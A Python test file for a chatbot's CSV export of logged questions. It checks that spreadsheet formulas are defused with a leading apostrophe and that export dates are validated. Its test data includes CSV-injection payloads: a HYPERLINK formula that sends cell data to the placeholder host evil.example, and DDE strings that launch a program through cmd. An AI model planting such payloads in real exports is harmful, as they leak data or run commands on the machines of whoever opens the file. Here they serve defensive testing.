"""The CSV export of the question log: formulas defused, days checked."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from bot.staff import export
from bot.storage import Store

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
]


def test_neutralize() -> None:
    for text in FORMULAS:
        assert export.neutralize(text) == "'" + text
    for text in ("hello", "亦庄", "", " =1", "'already", "1+1", "a=b"):
        assert export.neutralize(text) == text


async def test_csv_export_neutralises_formulas_and_parses_back(store: Store) -> None:
    texts = [*FORMULAS, 'comma, "quotes" and\nnewline', "亦庄有多少家企业？", "plain"]
    for n, text in enumerate(texts):
        await store.log_question(
            user_id=-(n + 1),  # negative ids must stay numbers, not be mangled
            chat_id=-1001234567890,
            lang="en",
            text=text,
            status="unanswered",
            entry_id="=evil" if n == 0 else None,
            score=0.25,
            asked_at=f"2026-11-{n + 1:02d}T10:00:00+00:00",
        )
    out = io.StringIO(newline="")
    assert await export.export_csv(store, out) == len(texts)
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows[0] == list(export.EXPORT_COLUMNS)
    body = rows[1:]
    assert [row[-1] for row in body] == [export.neutralize(t) for t in texts]
    assert body[0][6] == "'=evil" and body[1][6] == ""
    for row in body:
        for column, cell in zip(export.EXPORT_COLUMNS, row, strict=True):
            if column in {"id", "user_id", "chat_id", "score"}:
                float(cell)  # numbers stay numbers
            else:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    assert body[2][2] == "-3" and body[0][3] == "-1001234567890" and body[0][7] == "0.25"

    window = io.StringIO()
    assert await export.export_csv(store, window, dt.date(2026, 11, 2), dt.date(2026, 11, 3)) == 2
    assert [r[1][:10] for r in list(csv.reader(io.StringIO(window.getvalue())))[1:]] == ["2026-11-02", "2026-11-03"]
    data = await export.export_csv_bytes(store, dt.date(2026, 11, 9))
    assert data.startswith(b"\xef\xbb\xbf")
    parsed = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert [r[-1] for r in parsed[1:]] == ["亦庄有多少家企业？", "plain"]


def test_dates_for_the_export() -> None:
    assert export.parse_day(" 2026-11-05 ") == dt.date(2026, 11, 5)
    with pytest.raises(ValueError, match="YYYY-MM-DD"):
        export.parse_day("05/11/2026")
    for odd in ("2026-13-45", "20261105", "2026-W45-1", "２０２６-11-05", "2026-11-05T00:00"):
        with pytest.raises(ValueError, match="not a date"):
            export.parse_day(odd)
    for far in ("0001-01-01", "1999-12-31", "2101-01-01", "9999-12-31"):  # 9999-12-31 + 1 day overflows
        with pytest.raises(ValueError, match="outside 2000-01-01 to 2100-12-31"):
            export.parse_day(far)
    assert export.day_bounds(export.FIRST_DAY, export.LAST_DAY) == ("2000-01-01", "2101-01-01")
    assert export.day_bounds(dt.date(2026, 11, 1), dt.date(2026, 11, 30)) == ("2026-11-01", "2026-12-01")
    assert export.day_bounds(None, None) == (None, None)
    with pytest.raises(ValueError, match="after"):
        export.day_bounds(dt.date(2026, 11, 2), dt.date(2026, 11, 1))
